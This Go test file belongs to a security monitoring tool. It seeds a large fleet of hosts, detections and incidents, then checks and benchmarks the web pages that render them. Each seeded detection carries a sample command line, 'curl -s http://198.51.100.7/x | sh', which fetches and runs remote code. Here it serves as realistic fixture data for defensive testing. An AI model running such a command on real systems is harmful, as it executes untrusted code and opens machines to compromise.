package web_test

import (
	"context"
	"encoding/json"
	"fmt"
	"math/rand"
	"net/http"
	"net/url"
	"strings"
	"testing"
	"time"

	"github.com/quarry-sec/quarry/fleet/store"
	"github.com/quarry-sec/quarry/fleet/web"
	"github.com/quarry-sec/quarry/tables/ioa"
	"github.com/quarry-sec/quarry/telemetry"
)

// Scale of the fleet TestPagesAtScale renders.
const (
	scaleHosts      = 1000
	scaleDetections = 100000
	// scaleIncidents are spread evenly over the hosts, each with a
	// process tree of scaleIncidentNodes processes.
	scaleIncidents     = 10000
	scaleIncidentNodes = 6
)

// seedScale enrolls scaleHosts hosts and stores scaleDetections
// detections over the last week (techniques of the builtin rules, mixed
// severities), a process context of 30 processes for each host, and
// scaleIncidents incidents of the detections' hits with their trees.
func seedScale(t testing.TB, f *fleet) {
	t.Helper()
	ctx := context.Background()
	_, rules := knowledge(t)
	var techs []string
	for _, r := range rules {
		techs = append(techs, ioa.TechniqueIDs(r)...)
	}
	kb, _ := knowledge(t)
	sevs := []string{"medium", "medium", "high", "high", "high", "critical", "low"}
	rng := rand.New(rand.NewSource(7))
	now := time.Now()
	hostIDs := make([]string, scaleHosts)
	for i := range hostIDs {
		h := &store.Host{NodeKey: fmt.Sprintf("nk-%d", i), HostIdentifier: fmt.Sprintf("host-%04d", i),
			Hostname: fmt.Sprintf("ws%04d.corp.example", i), Platform: "ubuntu", Family: "linux", OSVersion: "Ubuntu 24.04.1 LTS",
			OsqueryVersion: "5.14.1", QuarryVersion: "0.9.0", EnrolledAt: now.Add(-30 * 24 * time.Hour),
			LastSeen: now.Add(-time.Duration(rng.Intn(300)) * time.Second)}
		if err := f.st.EnrollHost(ctx, h); err != nil {
			t.Fatal(err)
		}
		hostIDs[i] = h.ID
	}
	const batch = 5000
	for n := 0; n < scaleDetections; n += batch {
		var logs []store.HostLogs
		for i := n; i < n+batch; i++ {
			tech := techs[rng.Intn(len(techs))]
			name, tactic := "", ""
			if te, _, ok := kb.Resolve(tech); ok {
				name, tactic = te.Name, strings.Join(te.Tactics, ",")
			}
			pid := int64(1000 + i%30)
			d := store.Detection{Query: "quarry_ioa_hits", Hit: telemetry.Hit{HitID: fmt.Sprintf("hit-%d", i), Time: now.Add(-time.Duration(rng.Int63n(int64(7 * 24 * time.Hour)))), RuleID: "rule-" + tech, RuleTitle: "Rule for " + tech, RuleAuthor: "Quarry team",
				RuleSource: "builtin", TechniqueID: tech, TechniqueName: name, Tactic: tactic, Severity: sevs[rng.Intn(len(sevs))],
				Confidence: "medium", Description: "A scale-test detection.", Recommendations: "Look at the process tree.",
				EID: pid, PID: pid, Path: "/usr/bin/curl", Cmdline: "curl -s http://198.51.100.7/x | sh", ParentPath: "/bin/bash",
				Username: "www-data", Source: "ebpf"}}
			logs = append(logs, store.HostLogs{HostID: hostIDs[i%scaleHosts], Batch: &store.LogBatch{Detections: []store.Detection{d}}})
		}
		if err := f.st.AppendHostLogs(ctx, logs); err != nil {
			t.Fatal(err)
		}
	}
	// A process context per host: a chain of 30 processes.
	var logs []store.HostLogs
	for i, id := range hostIDs {
		var rs []store.Result
		for p := int64(1000); p < 1030; p++ {
			cols, _ := json.Marshal(map[string]string{"eid": fmt.Sprint(p), "pid": fmt.Sprint(p), "parent": fmt.Sprint(p - 1),
				"time": fmt.Sprint(now.Add(-2*time.Hour).Unix() + p), "path": "/bin/bash", "cmdline": "bash -c step",
				"username": "www-data", "syscall": "execve"})
			rs = append(rs, store.Result{Name: "pack_" + web.ProcessPackName + "_" + web.ProcessQuery, Query: web.ProcessQuery,
				Action: "added", Time: now.Add(-time.Hour), Counter: int64(i), Columns: cols})
		}
		logs = append(logs, store.HostLogs{HostID: id, Batch: &store.LogBatch{Results: rs}})
	}
	if err := f.st.AppendHostLogs(ctx, logs); err != nil {
		t.Fatal(err)
	}
	// Incidents: each groups five of its host's detections' hits.
	logs = logs[:0]
	for i := range scaleIncidents {
		host := i % scaleHosts
		k := i / scaleHosts
		last := now.Add(-time.Duration(rng.Int63n(int64(7 * 24 * time.Hour))))
		in := store.Incident{IncidentID: fmt.Sprintf("inc-%05d", i), FirstSeen: last.Add(-time.Duration(rng.Intn(1800)) * time.Second),
			LastSeen: last, Score: 1 + 14*rng.Float64(), Severity: sevs[rng.Intn(len(sevs))],
			Tactics: []string{"execution", "persistence", "defense-evasion"}, Techniques: []string{"T1059.004", "T1053.003"},
			HitCount: 5, RootPID: 1000, RootPath: "/bin/bash", Summary: "bash: 5 hit(s)", Reported: now}
		var nodes []store.IncidentNode
		for j := range 5 {
			in.HitIDs = append(in.HitIDs, fmt.Sprintf("hit-%d", host+scaleHosts*(5*k+j)))
		}
		for d := range scaleIncidentNodes {
			parent := ""
			if d > 0 {
				parent = fmt.Sprintf("p%d", d-1)
			}
			nodes = append(nodes, store.IncidentNode{IncidentID: in.IncidentID, ProcessKey: fmt.Sprintf("p%d", d),
				ParentKey: parent, Depth: d, PID: int64(1000 + d), PPID: int64(999 + d), Path: "/bin/bash",
				Cmdline: "bash -c step", Username: "www-data", Start: in.FirstSeen, HitCount: 1, Severity: in.Severity,
				Techniques: []string{"T1059.004"}, Tactics: []string{"execution"}, Reported: now})
		}
		logs = append(logs, store.HostLogs{HostID: hostIDs[host], Batch: &store.LogBatch{Incidents: []store.Incident{in}, IncidentNodes: nodes}})
		if len(logs) == 500 {
			if err := f.st.AppendHostLogs(ctx, logs); err != nil {
				t.Fatal(err)
			}
			logs = logs[:0]
		}
	}
}

// TestPagesAtScale renders every page over 1,000 hosts and 100,000
// detections in SQLite and reports how long each took.
// TestPagesAtScale renders every page at 1,000 hosts, 100,000 detections
// and 10,000 incidents and checks what they show; how long they take is
// BenchmarkPagesAtScale's to measure.
func TestPagesAtScale(t *testing.T) {
	if testing.Short() {
		t.Skip("scale test skipped in -short mode")
	}
	f := newFleet(t)
	start := time.Now()
	seedScale(t, f)
	t.Logf("seeded %d hosts, %d detections and %d incidents in %s", scaleHosts, scaleDetections, scaleIncidents, time.Since(start).Round(time.Millisecond))
	c := client(t)
	for _, p := range scalePages(t, f, c) {
		resp, body := get(t, c, f.srv.URL+p)
		if resp.StatusCode != http.StatusOK {
			t.Fatalf("%s: %s", p, resp.Status)
		}
		if strings.HasPrefix(p, "/detections?page=1000") && !strings.Contains(body, "49951–50000") {
			t.Errorf("%s: not the 1,000th page", p)
		}
		if strings.HasPrefix(p, "/incidents?page=") && !strings.Contains(body, fmt.Sprintf("%d–%d", scaleIncidents-49, scaleIncidents)) {
			t.Errorf("%s: not the last page of incidents", p)
		}
		if strings.HasPrefix(p, "/incidents/") && strings.Count(body, `<div class="node`) != scaleIncidentNodes {
			t.Errorf("%s: no graph of the incident's %d processes", p, scaleIncidentNodes)
		}
		if strings.HasPrefix(p, "/hunts/") && !strings.HasSuffix(p, "/data") && !strings.Contains(body, "pending 1000") {
			t.Errorf("%s: the counts of the 1,000 pending hosts are missing", p)
		}
		if strings.HasPrefix(p, "/detections/") && (!strings.Contains(body, `class="node hit`) || strings.Count(body, `<div class="node`) < 20) {
			t.Errorf("%s: no process tree of the host's 30 processes", p)
		}
	}
}

// BenchmarkPagesAtScale times each page at the scale of TestPagesAtScale
// (ms/page per sub-benchmark):
//
//	go test -run x -bench PagesAtScale -benchtime 3x ./fleet/web/
func BenchmarkPagesAtScale(b *testing.B) {
	f := newFleet(b)
	seedScale(b, f)
	c := client(b)
	for _, p := range scalePages(b, f, c) {
		b.Run(strings.TrimPrefix(p, "/"), func(b *testing.B) {
			get(b, c, f.srv.URL+p) // warm SQLite's page cache, as a running server's is
			b.ResetTimer()
			for range b.N {
				if resp, _ := get(b, c, f.srv.URL+p); resp.StatusCode != http.StatusOK {
					b.Fatalf("%s: %s", p, resp.Status)
				}
			}
			b.ReportMetric(float64(b.Elapsed().Microseconds())/1000/float64(b.N), "ms/page")
		})
	}
}

// scalePages signs c in, starts a hunt on every host and returns the pages
// to render.
func scalePages(t testing.TB, f *fleet, c *http.Client) []string {
	t.Helper()
	csrf := signIn(t, c, f.srv.URL, f.token)
	// A hunt on every host: its page lists the first hosts and counts all.
	resp, err := c.PostForm(f.srv.URL+"/hunt", url.Values{"csrf": {csrf}, "sql": {"SELECT 1"}, "targets": {"all"}, "deadline": {"10m"}})
	if err != nil {
		t.Fatal(err)
	}
	resp.Body.Close()
	hunt := resp.Header.Get("Location")
	if resp.StatusCode != http.StatusSeeOther || !strings.HasPrefix(hunt, "/hunts/") {
		t.Fatalf("hunt on %d hosts: %s %s", scaleHosts, resp.Status, hunt)
	}
	ds, total, err := f.st.Detections(context.Background(), store.DetectionFilter{Limit: 1})
	if err != nil || total != scaleDetections {
		t.Fatalf("detections: %d, %v", total, err)
	}
	d := ds[0]
	ins, insTotal, err := f.st.Incidents(context.Background(), store.IncidentFilter{Limit: 1})
	if err != nil || insTotal != scaleIncidents {
		t.Fatalf("incidents: %d, %v", insTotal, err)
	}
	in := ins[0]
	pages := []string{
		"/",
		"/matrix",
		"/matrix?layer=detections&since=7d",
		"/matrix?layer=detections&since=24h&hosts=host-0001,host-0002",
		"/matrix/layer.json?layer=detections&since=30d",
		"/techniques/" + d.TechniqueID,
		"/detections",
		"/detections?page=1000",
		"/detections?severity=critical&since=24h",
		"/detections?technique=" + strings.Split(d.TechniqueID, ".")[0] + "&host=host-0042",
		"/detections?tactic=execution&since=7d&page=3",
		fmt.Sprintf("/detections/%d", d.ID),
		"/hosts",
		"/hosts?page=20",
		"/hosts?q=ws0999",
		"/hosts/" + d.HostID,
		"/incidents",
		fmt.Sprintf("/incidents?page=%d", scaleIncidents/50),
		"/incidents?min_score=12&since=24h",
		"/incidents?host=host-0042",
		fmt.Sprintf("/incidents/%d", in.ID),
		"/hunt",
		hunt,
		hunt + "/data",
	}
	return pages
}
